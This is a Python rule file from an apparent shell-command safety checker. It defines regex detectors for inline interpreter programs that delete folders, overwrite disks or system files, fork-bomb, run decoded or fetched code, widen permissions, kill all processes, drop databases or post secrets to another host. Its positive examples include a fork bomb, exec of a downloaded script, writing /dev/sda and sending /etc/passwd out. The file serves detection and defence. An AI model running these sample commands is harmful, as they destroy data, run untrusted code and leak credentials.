"""What programs given on the command line would do: they delete, write to the system, exhaust, hide, send."""

from __future__ import annotations

import re

from shellmate.core.commands import Call
from shellmate.core.program import NAMES, code_of
from shellmate.core.rules.model import Table
from shellmate.core.types import Level

TABLE = Table("program text")
CAUTION, DANGER = Level.CAUTION, Level.DANGER
_TREES = re.compile(r"rmtree|remove_tree|\brm_rf?\b|rm_r\(|remove_dir|\.rmSync|\brmSync|fs(?:\.promises)?\.rm\b|rmdirSync\([^)]*recursive|rimraf|Remove-Item|\bri\s+-|removeSync|emptyDirSync|deltree|remove_entry_secure|delete-directory|deleteDirectory|Deno\.remove|recursive\s*[:=]\s*(?:true|TRUE|T)\b|deleteTree|delete_dir|delTree|rm\([^)]*recursive|deleteDir|file delete -force|File\.rm_rf|rm-rf|delete_tree|removeItemAtPath|delete \(?every|empty trash")
_UNLINK = re.compile(r"\b(?:os\.(?:remove|unlink|removedirs|rmdir|truncate)|File\.(?:delete|unlink|truncate|rm!?)|unlinkSync|fs\.unlink|unlink|rmdir|os\.remove|FileUtils\.rm\w*|Files\.delete\w*|file\.remove|delete-file|truncateSync|truncate|\.unlink|Dir\.(?:rmdir|delete|unlink))\b")
_UNLINK_PLAIN = re.compile(r"\b(?:os\.(?:remove|unlink)|File\.(?:delete|unlink)|unlinkSync|unlink|fs\.unlink|file\.remove)\s*\(?\s*(['\"])(?!/(?:etc|usr|bin|boot|lib|var|home|root|dev)|~|\.\.|\.ssh)[\w./-]+\1")
_WRITES = re.compile(
    r"(?:open|writeFileSync|writeFile|file_put_contents|File\.write|IO\.write|write_text|Path|appendFileSync|createWriteStream|fopen|spew|copyfile|copy|move|rename|print\s*>+|Set-Content|Out-File|symlink)\W{0,4}\(?\s*[rbf]?['\"]?\s*(?:>+\s*)?['\"]?(?:/dev/(?:sd|nvme|hd|vd|xvd|mmcblk|disk|mapper|md|mem)|/etc/|/boot|/bin|/sbin|/usr/(?!local)|/lib|/proc/sys|/sys/|/var/lib|~?/?\S*\.ssh/|/root)"
    r"|\bprintf?\b[^;}]*>+\s*\"(?:/etc/|/dev/(?:sd|nvme|vd)|/boot|/usr/|/bin/)"
)
_SYSTEM_PATH = r"(?:/dev/(?:sd|nvme|hd|vd|xvd|mmcblk|disk|mapper|md|mem)|/etc/|/boot|/s?bin|/usr/(?!local)|/lib|/proc/sys|/sys/|/var/lib|/root)"
_OPENS_TO_WRITE = re.compile(
    r"\bopen\s*\(?\s*[^,;]{1,40},\s*['\"]\s*(?:\+<|\+?>{1,2})[^'\"]*['\"]\s*,\s*['\"]" + _SYSTEM_PATH + r"|\bopen\s*\(?\s*[^,;]{1,40},\s*['\"]\s*(?:\+<|\+?>{1,2})\s*" + _SYSTEM_PATH
    + r"|\bsysopen\s*\(?[^,;]{1,40},\s*['\"]" + _SYSTEM_PATH + r"[^)]*(?:WR|TRUNC|CREAT|,\s*[12]\b)|\bos\.open\(\s*['\"]" + _SYSTEM_PATH + r"[^)]*(?:O_WR|O_RDWR|O_TRUNC)"
    + r"|\b(?:openSync|fs\.open|promises\.open|appendFileSync|writeFile\w*|binwrite|copyFile\w*|createWriteStream|fopen|file_put_contents)\s*\(\s*['\"]" + _SYSTEM_PATH + r"[^'\"]*['\"]\s*,\s*(?!['\"]r['\"b])"
)
_READ_ONLY_OPEN = re.compile(r"open\s*\(\s*[rbf]?['\"][^'\"]*['\"]\s*(?:\)|,\s*['\"]r[bt]?['\"]|,\s*os\.O_RDONLY\s*\))|Path\([^)]*\)\.(?:read_\w+|exists|stat|is_file)|open\s*\(?\s*(?:my\s+)?\$?\w+\s*,\s*['\"]<['\"]")
_LOOPS = re.compile(r"while\s*\(?\s*(?:1|True|true|:)\W.*\bfork\b|fork\b.*while|\bfork\s+while|\bfork\b.*\bfork\b|fork\(\)\s*for\b|(?:count|repeat|cycle)\(.*fork|loop\s*\{?\s*(?:do)?\s*fork|fork\(\)\s*;?\s*fork|while\s+(?:1|True|true)\s*:?.*(?:append|\+=|Thread|Process|Popen|spawn|alloc|\*\s*2)|for\s*\(;;\).*(?:fork|spawn|push|alloc)|\*\s*(?:10\s*\*\*\s*(?:9|1\d)|1_?0{9,}|1024\s*\*\*\s*[3-9]|2\s*\*\*\s*(?:3[2-9]|[4-9]\d))|'\w+'\s*\*\s*\d{9,}|(?:1\s*<<\s*(?:3[2-9]|[4-9]\d))|while\s*\(\s*(?:1|true)\s*\).*(?:push|concat|alloc|exec|spawn)|Buffer\.alloc\w*\(\s*\d{9,}|x\s+1e9|x\s+10{9,}|repeat\(\d{9,}", re.DOTALL)
_HIDDEN = re.compile(r"(?:exec|eval|compile|__import__|Function|assert|instance_eval|iex)\W.{0,80}(?:b64decode|base64|unhexlify|fromhex|decode|rot13|rot_13|urlopen|requests\.get|atob|Buffer\.from|unpack|pack\(|gzinflate|zlib|marshal|Net::HTTP|open-uri|open\(['\"]https?|file_get_contents|http\.get|https\.get|fetch\(|LWP|chr\(|\.text\b|getstore)|(?:urlopen|requests\.get|fetch|https?\.get)\(.{0,200}(?:exec|eval)\s*\(|load\s*\(?\s*(?:io\.popen|http)|os\.system\(.{0,40}(?:urlopen|b64decode|requests\.get)|(?:system|popen|run|exec)\w*\(.{0,40}(?:b64decode|atob|base64_decode|unpack)", re.DOTALL)
_PERMISSIONS = re.compile(r"(?:chmod\w*|chown\w*)\W+(?:0?o?777|['\"]?/(?:etc|usr|bin|home|root|var)?|0?o?[0-7]*,?\s*['\"]/(?:etc|bin|usr))|chmod.*(?:0o?|)777|setuid\(0\)|chmod.*['\"]/(?:etc|bin|usr|root)|chown.*['\"]/(?:etc|usr|bin|root|home)|os\.(?:chmod|chown)\(.*os\.walk")
_KILL = re.compile(r"(?:os\.kill|Process\.kill|process\.kill|posix_kill|\bkill)\W+(?:\(?\s*['\"]?(?:9|KILL|SIGKILL)?['\"]?\s*,\s*)?-?1\s*[,)]|\bkill\s+9\s*,?\s*-1|os\.reboot|reboot\(|InitiateSystemShutdown|kill\(\s*-1|psutil\.\w+.*kill\(\)|killpg")
_DATABASE = re.compile(r"(?i)\b(?:drop\s+(?:table|database|schema)|truncate\s+table|delete\s+from\s+\w+\s*(?:['\";)]|$)|dropDatabase|drop_database|delete_many\(\s*\{\s*\}|deleteMany\(\s*\{\s*\}|flushall|flushdb|\.drop\(\)|drop_all|drop_collection|delete_all|destroy_all|\.objects\.all\(\)\.delete|delete_bucket|terminate_instances|delete_objects|delete_table)")
_SECRET_SENT = re.compile(r"(?:requests\.(?:post|put|get)|urlopen|http\.request|fetch\(|sendall|\.send\(|Net::HTTP|curl_exec|socket|smtplib|axios|urllib\.request|http\.client|https\.request)", re.DOTALL)



def _deletes(call: Call) -> bool:
    code = code_of(call)
    if not code:
        return False
    if _TREES.search(code):
        return True
    if call.name == "powershell" and re.search(r"(?i)\b(?:remove-item|del|rm|rd|erase|clear-content|format-volume|clear-disk|clear-recyclebin)\b", code):
        return True
    found = _UNLINK.findall(code)
    if not found or call.name == "awk":
        return False
    return len(_UNLINK_PLAIN.findall(code)) < len(found)


def _deletes_plain(call: Call) -> bool:
    return bool(_UNLINK.search(code_of(call)))


def _writes_system(call: Call) -> bool:
    code = code_of(call)
    return bool(_WRITES.search(_READ_ONLY_OPEN.sub("", code)) or _OPENS_TO_WRITE.search(code)) if code else False


def _empties(call: Call) -> bool:
    code = code_of(call)
    return bool(re.search(r"open\s*\(\s*['\"][^'\"]+\.(?:db|sqlite3?|csv|sql|json|key|pem|docx?|xlsx?|md|py)['\"]\s*,\s*['\"]w[b+]?['\"]\s*\)(?:\.close|\s*;|\s*$|\.write\(\s*['\"]['\"]|\.truncate)|writeFileSync\(\s*['\"][^'\"]+['\"]\s*,\s*['\"]['\"]|file_put_contents\(\s*['\"][^'\"]+['\"]\s*,\s*['\"]['\"]|write_text\(\s*['\"]['\"]|\.truncate\(0?\)|File\.write\(\s*['\"][^'\"]+['\"]\s*,\s*['\"]['\"]|open\s*\(\s*(?!['\"])[\w.]+\s*,\s*['\"]w", code))


def _sends(call: Call) -> bool:
    from shellmate.core.places import is_secret

    code = code_of(call)
    return bool(code) and bool(_SECRET_SENT.search(code)) and (is_secret(code) or "os.environ" in code and "os.environ.get" not in code or "process.env)" in code or "ENV.to" in code)



TABLE.add("program-deletes", DANGER, "The program text deletes files or whole folders.", "Print what it would delete first.", names=NAMES, when=_deletes,
    yes=("python3 -c 'import shutil; shutil.rmtree(\"/data\")'", "perl -e 'unlink glob \"*\"'", "ruby -rfileutils -e 'FileUtils.rm_rf(\"x\")'", "node -e 'require(\"fs\").rmSync(\"x\",{recursive:true})'", "php -r 'array_map(\"unlink\", glob(\"*\"));'", "python3 -c 'import os; [os.remove(f) for f in os.listdir(\".\")]'"), no=("python3 -c 'print(1)'", "python3 -c 'import os; os.remove(\"a.txt\")'", "node -e 'console.log(1)'", "perl -ne 'print if /unlink|rmtree/' lib/Cleaner.pm", "ruby -ne 'print if /rm_rf/' x.rb", "awk '/rmtree/ {print NR}' x.pm"))
TABLE.add("program-deletes-file", CAUTION, "The program text deletes a file.", "", names=NAMES, when=_deletes_plain, yes=("python3 -c 'import os; os.remove(\"a.txt\")'",), no=("python3 -c 'print(1)'",))
TABLE.add("program-writes-system", DANGER, "The program text writes to a disk, a system file or a key.", "Write to a copy and compare.", names=NAMES, when=_writes_system,
    yes=("python3 -c 'open(\"/dev/sda\",\"wb\").write(b\"0\")'", "python3 -c 'open(\"/etc/passwd\",\"w\")'", "node -e 'require(\"fs\").writeFileSync(\"/etc/hosts\",\"\")'", "awk 'BEGIN{print \"x\" > \"/etc/passwd\"}'"), no=("python3 -c 'print(open(\"/etc/hosts\").read())'", "python3 -c 'open(\"a.txt\",\"w\").write(\"x\")'"))
TABLE.add("program-empties", DANGER, "The program text empties files.", "Copy the file first.", names=NAMES, when=_empties, yes=("python3 -c 'open(\"users.db\",\"w\").close()'", "node -e 'require(\"fs\").writeFileSync(\"a.js\", \"\")'"), no=("python3 -c 'open(\"o.txt\",\"w\").write(\"x\")'",))
TABLE.add("program-exhausts", DANGER, "The program text takes all memory or starts processes without end.", "Run it under `ulimit` or `systemd-run -p MemoryMax=`.", names=NAMES, when=lambda c: bool(_LOOPS.search(code_of(c))),
    yes=("perl -e 'fork while fork'", "python3 -c 'import os\nwhile True: os.fork()'", "python3 -c \"a='x'*10**12\"", "ruby -e 'loop { fork }'"), no=("python3 -c 'print(2**10)'",))
TABLE.add("program-hidden", DANGER, "The program text runs code that is hidden or fetched.", "Print the decoded text instead of running it.", names=NAMES, when=lambda c: bool(_HIDDEN.search(code_of(c))) or c.name == "awk" and bool(re.search(r"\|\s*\"\s*(?:/\w+/)*(?:ba|z|da|k)?sh\b", code_of(c))),
    yes=("python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'", "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'", "node -e 'eval(Buffer.from(\"YQ==\",\"base64\").toString())'"), no=("python3 -c 'import base64; print(base64.b64decode(\"YQ==\"))'",))
TABLE.add("program-permissions", DANGER, "The program text changes permissions widely or becomes root.", "", names=NAMES, when=lambda c: bool(_PERMISSIONS.search(code_of(c))), yes=("python3 -c 'import os; os.chmod(\"/etc/shadow\", 0o777)'", "python3 -c 'import os; os.setuid(0); os.system(\"id\")'"), no=("python3 -c 'import os; os.chmod(\"x\", 0o644)'",))
TABLE.add("program-kills", DANGER, "The program text kills every process, or stops the computer.", "", names=NAMES, when=lambda c: bool(_KILL.search(code_of(c))), yes=("python3 -c 'import os; os.kill(-1, 9)'", "perl -e 'kill 9, -1'"), no=("python3 -c 'import os; print(os.getpid())'",))
TABLE.add("program-database", DANGER, "The program text drops or empties a database.", "Dump it first.", names=NAMES, when=lambda c: bool(_DATABASE.search(code_of(c))) and c.name != "awk", yes=("python3 -c 'import sqlite3; sqlite3.connect(\"a.db\").execute(\"DROP TABLE users\")'",), no=("python3 -c 'import sqlite3; print(sqlite3.version)'", "node -p '\"DELETE FROM users\".toLowerCase()'", "python3 -c 'print(\"DROP TABLE x\")'"))
TABLE.add("program-sends-secret", DANGER, "The program text sends secrets to another machine.", "", names=NAMES, when=_sends, yes=("python3 -c 'import requests; requests.post(\"http://x\", data=open(\"/etc/passwd\").read())'",), no=("python3 -c 'import requests; print(requests.get(\"http://x\").text)'",))
